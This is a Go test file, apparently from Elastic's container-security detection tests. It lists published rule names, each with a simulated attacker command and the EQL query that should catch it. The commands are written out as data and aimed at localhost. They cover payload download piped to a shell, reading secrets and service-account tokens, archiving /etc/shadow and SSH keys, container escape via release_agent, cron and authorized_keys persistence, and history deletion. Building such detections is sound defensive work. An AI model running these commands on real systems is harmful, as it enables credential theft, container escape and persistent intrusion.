// Licensed to Elasticsearch B.V. under one or more agreements.
// Elasticsearch B.V. licenses this file to you under the Apache 2.0 License.
// See the LICENSE file in the project root for more information.

package system

// attack is a line of the script and what must be found of it: a query that asks for the fields that the published rule
// of that name needs, written from the rule's description.
type attack struct{ rule, command, query string }

// started is what most rules ask for first.
const started = `process where host.os.type == "linux" and event.type == "start" and event.action == "exec" and container.id : "*" and `

// A program is named by its path where the shell would rather do its work itself, as an applet of its own: rules take
// such ones by their arguments, but not all rules.
var attacks = []attack{
	{"command_and_control_curl_socks_proxy_detected_inside_container",
		"curl --socks5-hostname 127.0.0.1:1080 http://127.0.0.1/",
		started + `process.name == "curl" and process.args like ("socks5*", "--socks5-hostname", "--proxy", "--preproxy", "-x")`},
	{"command_and_control_interactive_file_download_from_internet",
		"/bin/wget -O /tmp/download http://127.0.0.1:8099/payload",
		started + `(process.name == "wget" or process.args in ("wget", "/bin/wget")) and process.args like ("-*O*", "--output-document=*")`},
	{"command_and_control_tunneling_and_port_forwarding",
		"ssh -R 8080:127.0.0.1:80 eve@127.0.0.1",
		started + `process.name == "ssh" and process.args in ("-R", "-L", "-D", "-w")`},
	{"container_workload_protection", "true", // the policy alerts on another one of these commands
		`any where event.kind == "alert" and event.module == "cloud_defend" and message : "?*"`},
	{"credential_access_cloud_creds_search_inside_a_container",
		"/bin/grep -r AWS_SECRET_ACCESS_KEY /etc/app.conf",
		started + `process.name in ("grep", "find", "cat", "sed", "awk") and process.args : ("*aws_secret_access_key*", "*azure_client_secret*")`},
	{"credential_access_collection_sensitive_files_compression_inside_a_container",
		"/usr/bin/tar cf /tmp/loot.tar /root/.ssh /etc/shadow",
		started + `process.name in ("zip", "tar", "gzip", "7z") and process.args : ("/root/.ssh*", "/etc/shadow", "/etc/passwd")`},
	{"credential_access_sensitive_keys_or_passwords_search_inside_a_container",
		`/bin/grep -r "BEGIN RSA PRIVATE KEY" /root`,
		started + `process.name in ("grep", "find", "awk") and process.args : ("*BEGIN*PRIVATE*", "*password*", "*id_rsa*")`},
	{"credential_access_service_account_token_or_cert_read",
		"/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token",
		started + `process.name in ("cat", "head", "tail", "more", "less", "sed", "awk") and
		process.args like ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/kubernetes.io/serviceaccount/token")`},
	{"defense_evasion_decoded_payload_piped_to_interpreter",
		"/usr/bin/base64 -d /tmp/encoded >/tmp/decoded; sh /tmp/decoded",
		`sequence by process.parent.entity_id, container.id with maxspan=3s
		[process where event.action == "exec" and event.type == "start" and process.name in ("base64", "openssl") and process.args like ("-d*", "--decode")]
		[process where event.action == "exec" and event.type == "start" and process.name in ("sh", "bash", "python3") and process.working_directory != "/opt"]`},
	{"defense_evasion_deletion_of_shell_cmdline_history",
		"/bin/rm /root/.bash_history",
		`file where event.type == "deletion" and file.name in (".bash_history", ".sh_history", ".zsh_history") and container.id : "*"`},
	{"defense_evasion_file_creation_execution_deletion_cradle",
		"/bin/wget -O /tmp/tool http://127.0.0.1:8099/tool; /bin/chmod 755 /tmp/tool; /tmp/tool; /usr/bin/unlink /tmp/tool",
		`sequence by container.id, user.id with maxspan=10s
		[file where event.action == "creation" and process.name in ("wget", "curl") and file.path like ("/tmp/*", "/dev/shm/*", "/var/tmp/*")] by file.name
		[process where event.action == "exec" and process.parent.name in ("sh", "bash")] by process.name
		[file where event.action == "deletion" and not process.name in ("rm", "ld", "gcc")] by file.name`},
	{"defense_evasion_interactive_process_execution_from_suspicious_directory",
		"/bin/cp /bin/busybox /tmp/.hidden; /tmp/.hidden true",
		`process where event.type == "start" and event.action == "exec" and container.id : "*" and
		(process.executable like ("/tmp/*", "/dev/shm/*", "/var/tmp/*", "/run/*") and process.name like ".*")`},
	{"defense_evasion_ld_preload_shared_object_modified_inside_a_container",
		"echo /tmp/hook.so >/etc/ld.so.preload; /bin/rm /etc/ld.so.preload",
		`file where event.type != "deletion" and file.path like ("/etc/ld.so.preload", "/etc/ld.so.conf", "/etc/ld.so.conf.d/*") and container.id : "*"`},
	{"defense_evasion_potential_evasion_via_encoded_payload",
		"/usr/bin/base64 -d /tmp/encoded",
		started + `process.name in ("base64", "base32", "xxd") and process.args like ("-d*", "-D", "--decode", "-r")`},
	{"discovery_dns_enumeration",
		"/usr/bin/timeout 1 /usr/bin/nslookup kubernetes.default.svc.cluster.local 127.0.0.1",
		started + `process.name in ("nslookup", "dig", "host") and process.args : ("*kubernetes*", "*.svc", "*.cluster.local")`},
	{"discovery_environment_enumeration", "/bin/env", started + `process.name in ("env", "printenv")`},
	{"discovery_kubelet_certificate_file_access",
		"/bin/cat /var/lib/kubelet/pki/kubelet-client-current.pem",
		started + `process.name in ("cat", "head", "tail") and process.args like "/var/lib/kubelet/pki/*"`},
	{"discovery_kubelet_pod_discovery_via_builtin_utilities",
		"for i in 1 2 3 4 5; do /bin/ls /var/lib/kubelet/pods; done",
		`sequence by container.id, user.id with maxspan=5s` + fiveTimes(`[process where event.action == "exec" and
		process.name in ("du", "find", "locate", "ls") and process.args like "/var/lib/kubelet/pods*"]`)},
	{"discovery_potential_cluster_enumeration_via_jq", "jq . /etc/app.conf", started + `process.name == "jq"`},
	{"discovery_privilege_boundary_enumeration_from_interactive_process",
		"/bin/id; /bin/whoami", started + `process.name in ("id", "whoami", "capsh", "getcap", "lsns")`},
	{"discovery_service_account_namespace_read",
		"/bin/cat /run/secrets/kubernetes.io/serviceaccount/namespace",
		started + `process.name in ("cat", "head", "tail") and process.args like "*/secrets/kubernetes.io/serviceaccount/namespace"`},
	{"discovery_suspicious_network_tool_launched_inside_a_container",
		"/usr/bin/nc -w 1 127.0.0.1 1", started + `process.name in ("nc", "nmap", "tcpdump", "socat") and not process.args in ("-z", "localhost")`},
	{"discovery_tool_enumeration",
		"/usr/bin/which curl nmap socat", started + `process.name == "which" and process.args in ("curl", "nmap", "socat", "kubectl")`},
	{"execution_container_management_binary_launched_inside_a_container",
		"kubectl version",
		started + `process.name in ("dockerd", "kubelet", "kubectl", "containerd", "crictl") and
		not process.parent.executable in ("/usr/bin/kubelet") and process.parent.args != "start" and process.working_directory != "/aws"`},
	{"execution_container_runtime_cli_suspicious_args",
		"ctr run --mount type=bind,src=/,dst=/host x y",
		`process where host.os.type == "linux" and event.type == "start" and event.action == "exec" and process.name in ("ctr", "crictl", "nerdctl") and
		process.args in ("run", "exec") and process.args like "--mount*" and not process.parent.executable in ("/usr/bin/kubelet", "/usr/bin/containerd")`},
	{"execution_direct_interactive_kubernetes_api_request",
		`curl -k -H "Authorization: Bearer x" https://127.0.0.1/api/v1/pods`,
		started + `process.name == "curl" and process.args : "*authorization: bearer*" and process.args in ("-k", "--insecure", "--cacert")`},
	{"execution_kubernetes_direct_api_request_via_curl_or_wget",
		"true", // what curl did before
		`process where event.type == "start" and process.name in ("curl", "wget") and process.command_line : "*https://127.0.0.1/api/v1/pods*"`},
	{"execution_interactive_exec_to_container",
		"true", // the script's own shell
		started + `process.name == "sh" and process.entry_leader.entry_meta.type == "container" and process.entry_leader.same_as_process == true`},
	{"execution_interactive_file_creation_followed_by_execution",
		"/bin/cp /bin/busybox /tmp/dropped; /tmp/dropped true",
		`sequence by container.id, user.id with maxspan=3s
		[file where event.type == "creation" and file.path like ("/tmp/*", "/root/*", "/home/*") and not process.name in ("apt", "dpkg")] by file.path
		[process where event.type == "start" and event.action == "exec"] by process.executable`},
	{"execution_interactive_file_creation_in_system_binary_locations",
		"/bin/wget -O /usr/bin/fetched http://127.0.0.1:8099/tool",
		`file where event.type == "creation" and file.path like ("/etc/*", "/root/*", "/bin/*", "/usr/bin/*") and process.name in ("wget", "curl")`},
	{"execution_interactive_shell_spawned_from_inside_a_container",
		"sh -i </dev/null",
		started + `process.name == "sh" and process.args in ("-i", "-it") and process.entry_leader.same_as_process == false`},
	{"execution_kubeletctl_execution",
		"kubeletctl pods --server 127.0.0.1", started + `process.name == "kubeletctl" and process.args in ("-s", "--server") and process.args == "pods"`},
	{"execution_netcat_listener_established_inside_a_container",
		"/usr/bin/timeout 1 /usr/bin/nc -l -p 4444", started + `process.name in ("nc", "ncat", "netcat") and process.args like ("-*l*", "-*p*", "-*e*")`},
	{"execution_payload_downloaded_and_piped_to_shell",
		"/bin/wget -O - http://127.0.0.1:8099/payload | sh",
		`sequence by process.parent.entity_id, container.id with maxspan=1s
		[process where event.action == "exec" and event.type == "start" and process.name in ("curl", "wget")]
		[process where event.action in ("exec", "end") and process.name in ("sh", "bash", "python3")]`},
	{"execution_potential_direct_kubelet_access_via_process_args",
		"/bin/wget http://127.0.0.1:10250/pods", started + `process.args like ("http*:10250*", "http*:10255*", "wss*:10250*")`},
	{"execution_suspicious_file_made_executable_via_chmod_inside_a_container",
		"/bin/chmod 777 /tmp/dropped",
		`any where event.category in ("file", "process") and event.type in ("change", "creation", "start") and process.name == "chmod" and
		process.args in ("+x", "755", "777") and container.id : "*"`},
	{"execution_suspicious_interactive_interpreter_command_execution",
		`/usr/bin/python3 -c "import os; os.system('id')"`,
		started + `process.parent.executable != null and process.executable like ("/bin/p*", "/usr/bin/p*") and process.args == "-c" and process.args : "*os.system*"`},
	{"execution_tool_installation",
		"apk add nmap", started + `process.name in ("apk", "apt", "apt-get", "yum") and process.args in ("add", "install") and process.args == "nmap"`},
	{"impact_process_killing", "/usr/bin/kill -0 1",
		`process where event.type == "start" and event.action == "exec" and container.id : "*" and process.name in ("kill", "pkill", "killall")`},
	{"persistence_modification_of_persistence_relevant_files",
		`echo "* * * * * root id" >/etc/cron.d/task`,
		`file where event.type != "deletion" and event.action in ("creation", "rename", "open") and file.path like ("/etc/cron.d/*", "/etc/sudoers*") and
		not process.name in ("dpkg", "rpm")`},
	{"persistence_ssh_authorized_keys_modification_inside_a_container",
		"echo key >>/root/.ssh/authorized_keys",
		`file where event.type in ("change", "creation") and file.name in ("authorized_keys", "authorized_keys2") and container.id : "*"`},
	{"persistence_suspicious_echo_or_printf_execution",
		`sh -c "echo '* * * * * id' >>/etc/cron.d/task"`,
		`process where event.type == "start" and event.action == "exec" and process.name == "sh" and process.args == "-c" and
		process.args : ("*echo*/etc/cron*", "*printf*/etc/cron*")`},
	{"privilege_escalation_chroot_execution_detected_inside_container", "/usr/bin/chroot / true", started + `process.name == "chroot"`},
	{"privilege_escalation_nsenter_execution_inside_container",
		"/usr/bin/nsenter -t 1 -m true", started + `process.name == "nsenter" and process.args like ("-t", "--target*")`},
	{"privilege_escalation_potential_container_escape_via_modified_notify_on_release_file",
		"echo 1 >>/tmp/cgroup/notify_on_release",
		`file where event.type == "change" and event.action == "open" and file.name == "notify_on_release" and container.id : "*"`},
	{"privilege_escalation_potential_container_escape_via_modified_release_agent_file",
		"echo /tmp/tool >>/tmp/cgroup/release_agent",
		`file where event.type == "change" and event.action == "open" and file.name == "release_agent" and container.id : "*"`},
	{"privilege_escalation_unshare_namespace_manip",
		"/usr/bin/unshare -m true",
		`process where event.type == "start" and event.action == "exec" and process.name == "unshare" and
		not process.parent.executable in ("/usr/bin/udevadm") and process.parent.name != "snapd" and process.parent.args != "--pivot"`},
}

func fiveTimes(step string) string { return step + step + step + step + step }
